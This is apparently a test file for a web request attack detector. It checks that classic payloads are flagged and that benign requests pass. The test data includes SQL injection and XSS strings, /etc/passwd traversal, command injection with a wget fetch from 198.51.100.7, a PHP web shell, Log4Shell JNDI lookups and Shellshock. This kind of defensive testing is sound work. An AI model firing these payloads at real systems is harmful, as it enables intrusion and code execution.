// Requests of honest clients, and of others. The attacks are those that textbooks and old advisories show.

import { expect, test } from 'vitest';
import { attackIn, headerAttack } from '../../../src-core/event/http/request-attack.ts';

test.each([
  ["/item?id=1'+UNION+SELECT+1,2,3/*", 'sql-injection'],
  ['/item?id=%25%27+or+%270%27%3D%270&Submit=Submit', 'sql-injection'],
  ['/item?id=1%2527%2520or%25201%253D1', 'sql-injection'],
  ['/item?id=1/**/union/**/all/**/select/**/null', 'sql-injection'],
  ['name=%27%3Bshow+databases+%23', 'sql-injection'],
  ['/a?x=sleep(5)', 'sql-injection'],
  ['/a?q=<script>alert(1)</script>', 'cross-site-scripting'],
  ['/a?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E', 'cross-site-scripting'],
  ['/../../../../etc/passwd', 'path-traversal'],
  ['/scripts/..%255c..%255cwinnt/system32/cmd.exe?/c+dir', 'command-injection'],
  ['/a?page=..%2f..%2fetc%2fpasswd', 'path-traversal'],
  ['/ping?ip=127.0.0.1;cat+/tmp/x', 'command-injection'],
  ['/ping?ip=1|id', 'command-injection'],
  ['/cgi-bin/a.sh?x=$(wget http://198.51.100.7/a)', 'command-injection'],
  ['/a?page=php://filter/convert.base64-encode/resource=index', 'file-inclusion'],
  ['/a?page=http://198.51.100.7/c.txt?', 'file-inclusion'],
  ['/?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input', 'code-injection'],
  ['<?php system($_GET["c"]); ?>', 'code-injection'],
  ['uname=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%3A1389%2Fa%7D', 'jndi-lookup'],
  [`$\{$\{lower:j}ndi:$\{lower:l}dap://198.51.100.7/a}`, 'jndi-lookup'],
  ['() { :; }; /bin/cat /x', 'shellshock'],
])('%s is an attack', (text, kind) => {
  expect(attackIn(text)?.kind).toBe(kind);
});

test.each([
  '/search?q=select+a+union+from+the+list',
  "/search?q=rock+'n'+roll+or+jazz",
  '/go?url=https://www.example.com/a/b?c=d&e=f',
  '/a/../b/c.png',
  '/list?sort=name;dir=asc',
  '/list?id=5;type=6&echo=1',
  '/track?a=1&and=2&or=3',
  '/scripts/site.js?v=1.2.3',
  '/login?next=/etc/',
  '/w/index.php?title=User:Drop_table&action=edit',
  'user=ann&comment=I+can%27t+come+or+call+today',
  '{"query":"query { users { id name } }"}',
  '<soap:Envelope><soap:Body><Update>1</Update></soap:Body></soap:Envelope>',
])('%s is none', (text) => {
  expect(attackIn(text)).toBeUndefined();
});

test('of headers only what somebody runs counts', () => {
  expect(headerAttack('() { :;}; echo hello')?.kind).toBe('shellshock');
  expect(headerAttack(`$\{jndi:dns://a.example}`)?.kind).toBe('jndi-lookup');
  expect(headerAttack('Mozilla/5.0 {a: b}')).toBeUndefined();
  expect(headerAttack("' or '1'='1")).toBeUndefined();
});
